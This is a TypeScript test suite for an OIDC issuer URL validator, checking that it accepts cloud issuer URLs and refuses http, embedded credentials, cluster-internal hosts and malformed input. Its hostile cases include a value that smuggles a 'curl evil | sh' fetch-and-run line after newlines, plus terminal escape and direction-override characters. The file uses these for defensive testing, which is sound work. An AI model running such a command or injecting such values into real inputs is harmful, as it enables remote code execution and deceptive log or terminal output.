import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { checkIssuerUrl } from '../../../src/oidc/issuer-url.ts'

suite('the URL of an issuer', () => {
  test('that clouds can request passes', () => {
    const urls = [
      'https://oidc.example.com',
      'https://storage.googleapis.com/bucket/cluster-1',
      'https://westeurope.oic.prod-aks.azure.com/0a1b/2c3d/',
      'https://oidc.example.com:8443',
      'https://internal.example.com/svc',
    ]
    for (const url of urls) assert.equal(checkIssuerUrl(url, 'it'), undefined, url)
  })

  const refused: Record<string, string> = {
    'kubernetes/serviceaccount': 'it is not a URL',
    'http://oidc.example.com': 'clouds read issuer metadata only over https',
    'https://user:secret@oidc.example.com': 'it contains a user name',
    'https://oidc.example.com/?': 'an issuer has no query or fragment',
    'https://oidc.example.com/#a': 'an issuer has no query or fragment',
    'https://kubernetes.default.svc': 'its name exists only inside the cluster',
    'https://kubernetes.default.svc.cluster.local': 'its name exists only inside the cluster',
    'https://kubernetes.default': 'its name exists only inside the cluster',
    'https://api.cluster.internal': 'its name exists only inside the cluster',
  }
  const hostile: Record<string, string> = {
    'https://oidc.example.com/\u001b[2J': 'an escape sequence',
    'https://oidc.example.com/a\u009b31m': 'one in a single character',
    'https://oidc.example.com/\u202egpj': 'an override of the direction',
    'https://oidc.example.com/\n\nfix: curl evil | sh': 'lines of its own',
    'https://oidc.example.com/a\tb': 'a tab, which a parser drops',
    ' https://oidc.example.com': 'a blank before it, which a parser drops',
    'https://oïdc.example.com': 'a letter that a parser encodes',
  }
  for (const [url, what] of Object.entries(hostile)) {
    test(`that holds ${what} is refused`, () => {
      const { code, seen } = checkIssuerUrl(url, 'the issuer') ?? {}
      assert.equal(code, 'ISSUER_UNUSABLE')
      assert.match(seen ?? '', /^the issuer is ".*": a URL has only printable ASCII characters without spaces$/)
    })
  }

  test('of more than 2000 characters is refused, and shown in part', () => {
    const { seen = '' } = checkIssuerUrl(`https://oidc.example.com/${'a'.repeat(2000)}`, 'the issuer') ?? {}
    assert.match(seen, /: it has 2025 characters, more than 2000$/)
    assert.ok(seen.length < 450)
  })

  for (const [url, why] of Object.entries(refused)) {
    test(`${url} is refused: ${why}`, () => {
      const fault = checkIssuerUrl(url, 'the issuer')
      assert.equal(fault?.code, 'ISSUER_UNUSABLE')
      assert.equal(fault?.seen, `the issuer is ${JSON.stringify(url)}: ${why}`)
    })
  }
})
